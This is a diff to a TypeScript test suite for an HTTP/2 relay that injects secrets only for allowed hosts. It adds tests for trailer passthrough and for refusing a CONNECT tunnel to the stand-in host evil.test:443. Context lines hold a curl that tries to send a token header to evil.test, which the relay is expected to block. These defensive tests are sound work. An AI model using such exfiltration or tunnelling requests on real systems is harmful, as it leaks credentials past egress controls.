@@ -1,6 +1,9 @@
 // HTTP/2 through the relay: curl negotiates h2 with the relay, the relay speaks h2 upstream, and
 // every stream's :authority is checked before a secret goes in.
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { readFileSync } from "node:fs";
+import * as http2 from "node:http2";
+import * as tls from "node:tls";
 import { GUEST_IP, type Rig, startRig, waitForResult } from "./harness.ts";
 
 const TOKEN = "h2-REAL-token-5e6f";
@@ -58,6 +61,28 @@ describe("HTTP/2 interception", () => {
     const r = await curl("evil.test", ["-H", "X-K: $MSB_TOKEN"], [`https://evil.test:${rig.port}/x`]);
     expect(r.out).toBe("msb: blocked: secret TOKEN is not allowed for host evil.test\n");
     expect(await waitForResult(rig, (x) => x.serverName === "evil.test" && x.stop?.reason === "secret TOKEN is not allowed for host evil.test")).toBe(true);
+  });
+
+  test("response trailers are passed on", async () => {
+    const r = await curl("api.test", ["-sS", "-D", "-", "-o", "/dev/null"], [`https://api.test:${rig.port}/trailers`]);
+    expect(r.err).toBe("");
+    expect(r.out).toContain("x-echo-status: done");
+  });
+
+  test("CONNECT inside an intercepted h2 connection is refused", async () => {
+    const before = rig.seen.length;
+    const session = http2.connect(`https://api.test:${rig.port}`, {
+      ca: await Bun.file(rig.msbCaFile).text(),
+      createConnection: () => tls.connect({ host: GUEST_IP, port: rig.port, servername: "api.test", ca: readFileSync(rig.msbCaFile, "utf8"), ALPNProtocols: ["h2"] }),
+    });
+    const req = session.request({ ":method": "CONNECT", ":authority": "evil.test:443" });
+    const status = await new Promise<number>((resolve, reject) => {
+      req.on("response", (h) => resolve(Number(h[":status"])));
+      req.on("error", reject);
+    });
+    session.close();
+    expect(status).toBe(405);
+    expect(rig.seen.length).toBe(before);
   });
 
   test("logs and results never hold a value", () => {
